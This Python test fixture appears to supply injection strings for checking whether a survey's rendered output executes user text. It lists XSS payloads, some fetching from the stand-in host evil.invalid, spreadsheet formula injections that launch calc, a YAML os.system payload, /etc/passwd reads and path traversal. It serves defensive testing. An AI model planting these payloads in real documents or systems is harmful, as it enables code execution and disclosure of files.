"""What somebody could write where a survey takes text, to make a page, a sheet or a terminal act.

Each is harmless where it is shown as the text that it is. What runs sets `window.hit`, asks for an
address below `EVIL`, or makes the file `TRACE`.
"""

from collections.abc import Iterator
from itertools import cycle

# No such host exists (RFC 6761).
EVIL = "evil.invalid"
# The name of a file that nothing may make.
TRACE = "readiness-injected"

# Each by its kind.
INJECTIONS = {
    "html script": "<script>window.hit=1;alert(1)</script>",
    "html event": f"<img src=x onerror=\"window.hit=1;fetch('http://{EVIL}/i')\">",
    "html attribute": '"\' onmouseover="window.hit=1" autofocus onfocus="window.hit=1" x=\'',
    "html ends": f"</td></table></title></style></script><iframe src=http://{EVIL}/f></iframe>",
    "html meta": f'<meta http-equiv=refresh content="0;url=http://{EVIL}/m"><base href=//{EVIL}/>',
    "html entities": "&lt;script&gt;window.hit=1&lt;/script&gt;&#60;img src=x onerror=hit=1&#62;",
    "html style": f"<style>@import url(http://{EVIL}/s);</style><link rel=stylesheet href=//{EVIL}",
    "html form": f"<form action=http://{EVIL}/a><button autofocus>x</button></form><object data=x>",
    "html comment": "--><script>window.hit=1</script><!--",
    "svg event": '<svg onload="window.hit=1"><script>window.hit=1</script></svg>',
    "svg cdata": ']]><script xmlns="http://www.w3.org/2000/svg">window.hit=1</script><![CDATA[',
    "svg foreign": f'<foreignObject><iframe src="http://{EVIL}/o"/></foreignObject>',
    "svg image": f'<image href="http://{EVIL}/p"/><use href="http://{EVIL}/u#a"/>',
    "svg animate": '<animate attributeName="href" to="javascript:window.hit=1"/>',
    "markdown link": f"[x](javascript:window.hit=1) ![x](http://{EVIL}/md.png)",
    "markdown raw": f"`x` **y** | z | <http://{EVIL}/auto> [^1] # h",
    "markdown div": '::: {.x onclick="window.hit=1"} [x]{.n data-id="run/id"} :::',
    "quarto shortcode": "{{< include /etc/passwd >}} `{=html}<script>window.hit=1</script>`",
    "quarto cell": f"```{{python}} open('/tmp/{TRACE}','w') ``` `{{python}} exit()`",
    "template": "{{ 7*191 }} {% raw %} ${7*191} #{7*191} <%= 7*191 %> {7*191}",
    "typst": f'#eval("7*191") #read("/etc/passwd") #link("http://{EVIL}/t")[x] $x$ @x',
    "latex": "\\input{/etc/passwd} \\write18{touch x} $\\href{javascript:hit=1}{x}$",
    "formula": f"=WEBSERVICE(\"http://{EVIL}/w\")+cmd|' /C calc'!A0",
    "formula plus": f'+1+HYPERLINK("http://{EVIL}/h","x")',
    "formula minus": "-2+3+cmd|' /C calc'!A0",
    "formula at": "@SUM(1+1)*cmd|' /C calc'!A0",
    "formula wide": f'\uff1dHYPERLINK("http://{EVIL}/w","x")',
    "bidi": "safe\u202etxt.exe\u2066 x\u200f",
    "terminal": "\x1b[31mred\x1b]0;title\x07\x9b2J",
    "yaml": f'!!python/object/apply:os.system ["touch /tmp/{TRACE}"]',
    "climbing": f"../../../../../../tmp/{TRACE}",
    "format": "%s %n %(x)s {0} {x!r} \\n",
}
# What a spreadsheet takes for the beginning of a formula.
RUNNING = ("=", "+", "-", "@", "\t", "\r", "\n", "\0", "\uff1d", "\uff0b", "\uff0d", "\uff20")


class Planter:
    """Gives out the injections in turn, each with a mark of the field that it went into."""

    def __init__(self) -> None:
        self._turn: Iterator[tuple[str, str]] = cycle(INJECTIONS.items())
        self.planted: dict[str, str] = {}

    def text(self, field: str, *, without: tuple[str, ...] = ()) -> str:
        """The next injection for a field; `without`: kinds that this field refuses by itself."""
        kind, injection = next(self._turn)
        while kind in without:
            kind, injection = next(self._turn)
        mark = f"zq{len(self.planted)}z"
        self.planted[mark] = f"{field}: {kind}"
        return f"{injection} {mark}"
